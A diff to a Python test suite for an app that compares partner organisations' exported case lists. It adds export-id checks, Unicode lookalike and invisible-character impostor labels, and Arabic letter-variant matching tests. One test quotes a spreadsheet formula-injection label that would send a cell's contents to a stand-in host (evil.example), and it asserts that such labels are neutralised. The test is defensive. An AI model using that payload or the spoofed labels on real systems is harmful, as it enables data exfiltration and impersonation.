@@ -6,6 +6,7 @@ import base64
 import hashlib
 import json
 import random
+import uuid
 from pathlib import Path
 from typing import Any
 
@@ -274,6 +275,7 @@ def _partner_file(path: Path, people: list[tuple[dict[str, Any], str]], label: s
                 "label": label,
                 "schema": SCHEMA,
                 "fingerprint": enc.fingerprint,
+                "export": str(uuid.uuid5(uuid.NAMESPACE_URL, path.name)),
                 "count": len(people),
                 "records": [
                     {
@@ -534,7 +536,7 @@ def test_a_file_given_twice_a_copy_or_another_export_of_ours_is_refused(
     copy = tmp_path / "partner.json"
     copy.write_text(json.dumps(doc))
     doc = json.loads(again.read_text())
-    doc.pop("export")
+    doc["export"] = "00000000-0000-4000-8000-000000000002"  # a new id: its records still tell
     unnamed = tmp_path / "unnamed.json"
     unnamed.write_text(json.dumps(doc))
     theirs = _partner_file(tmp_path / "theirs.json", [(PERSON, "aleppo")], "B")
@@ -608,6 +610,9 @@ def test_two_lists_under_one_label_are_refused(
         ("\u200fOrgB\u00ad", "real.json"),  # right-to-left mark, soft hyphen
         ("\ufeffU.S.", "ours.json"),
         ("Org B", "real.json"),
+        ("\U0001d40eRGB", "real.json"),  # mathematical bold O
+        ("Org\u3164B", "real.json"),  # a Hangul filler, drawn as nothing
+        ("\u1d1c\ua731", "ours.json"),  # small capitals
     ]
     for label, first in lookalikes:
         doc = json.loads(impostor.read_text())
@@ -636,9 +641,12 @@ def test_two_lists_under_one_label_are_refused(
     impostor.write_text(json.dumps({**doc, "label": "OrgK December"}))
     out = _invoke(app, "partners", "compare", str(ours), str(impostor))
     assert out.exit_code == 0 and "0 new marks" in out.output, out.output
-    impostor.write_text(json.dumps({**doc, "export": doc["export"].upper(), "label": "K Jan"}))
-    out = _invoke(app, "partners", "compare", str(ours), str(impostor))
-    assert out.exit_code == 0 and "0 new marks" in out.output, out.output
+    for export in (doc["export"].upper(), "{" + doc["export"] + "}", doc["export"] + "0", ""):
+        impostor.write_text(json.dumps({**doc, "export": export, "label": "K Jan"}))
+        out = _invoke(app, "partners", "compare", str(ours), str(impostor))
+        assert out.exit_code != 0 and "export id is missing or not one" in out.output, out.output
+    with app.extensions["casebook.db"].sessionmaker() as s:
+        assert len(s.scalars(select(PartnerMark)).all()) == 3
 
 
 def test_record_ids_in_another_form_are_refused(app: Flask, tmp_path: Path) -> None:
@@ -779,6 +787,7 @@ def test_a_list_copied_from_another_or_edited_is_refused(app: Flask, tmp_path: P
     theirs = _partner_file(tmp_path / "theirs.json", _people(12)[:6] + _people(20)[14:], "B")
     doc = json.loads(ours.read_text())
     doc["label"] = "C"
+    doc["export"] = "00000000-0000-4000-8000-0000000000c0"
     for i, record in enumerate(doc["records"]):
         record["id"] = f"{0xC0 + i:032x}"
     (tmp_path / "copied.json").write_text(
@@ -859,6 +868,26 @@ def test_a_partner_label_cannot_be_a_formula_or_hide_characters(
         label = (mark.body or {})["label"]
     assert label.startswith('=HYPERLINK("http://evil.example/?"&A2,"open")evil[2J')
     assert len(label) <= 100 and not any(ord(c) < 32 or c == "\u202e" for c in label)
+
+
+@pytest.mark.parametrize(
+    ("given", "alike"),
+    [
+        ("منظمة الكرامۃ", "منظمة الكرامة"),
+        ("منظمھ الكرامھ", "منظمة الكرامة"),
+        ("منظمة ٱلكرامة", "منظمة الكرامة"),
+        ("جمعية الهدے", "جمعية الهدى"),
+        ("جمعیة الهدی", "جمعية الهدى"),
+        ("رابطة الأمل ١", "رابطة الامل 1"),
+        ("رابطة الأمل ۱", "رابطه الأمل 1"),
+        ("رابـطة الأمَل", "رابطة الأمل"),
+        ("Ⲟrg Օne", "Org One"),
+    ],
+)
+def test_arabic_labels_written_with_letters_for_one_another_read_alike(
+    given: str, alike: str
+) -> None:
+    assert label_key(given) == label_key(alike)
 
 
 @given(
